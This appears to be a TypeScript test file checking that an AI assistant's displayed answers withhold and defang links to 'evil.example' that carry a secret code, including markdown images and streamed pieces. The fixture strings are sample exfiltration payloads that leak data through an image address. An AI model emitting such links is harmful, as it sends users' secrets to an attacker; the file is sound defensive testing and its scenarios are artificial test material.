import assert from 'node:assert/strict';
import { READ, type Scenario } from './scenario.ts';

const IMAGE = 'Your code is 4711. ![chart](https://evil.example/?d=4711) That is all.';
const HOST = 'Your code is 4711. See evil.example/?d=4711 for more.';

function answers(text: string, stream: boolean): Scenario['play'] {
  return async (stage) => {
    stage.script(READ, { text });
    const shown = await (await stage.start({ stream })).say('What is new?');
    assert.ok(shown.startsWith('Your code is 4711. '), `the answer is not shown: ${shown}`);
    assert.ok(!shown.includes('d=4711'), `the address is shown: ${shown}`);
    assert.ok(shown.includes('evil[.]example'), `the answer does not say what was withheld: ${shown}`);
  };
}

/** Scenarios of answers, as the user is shown them. */
export const output: readonly Scenario[] = [
  {
    id: 'output-image',
    title: 'an image address that could carry data is withheld from an answer',
    play: answers(IMAGE, false),
  },
  {
    id: 'output-host',
    title: 'a link without a scheme is withheld from an answer',
    play: answers(HOST, false),
  },
  {
    id: 'output-stream',
    title: 'in a stream, an image address that arrives in pieces is withheld',
    play: answers(IMAGE, true),
  },
  {
    id: 'output-known',
    title: 'a link that the user typed stays in an answer',
    async play(stage) {
      stage.script({ text: 'See https://docs.example/guide for more.' });
      const shown = await (await stage.start()).say('What is at https://docs.example/guide?');
      assert.equal(shown, 'See https://docs.example/guide for more.');
    },
  },
];
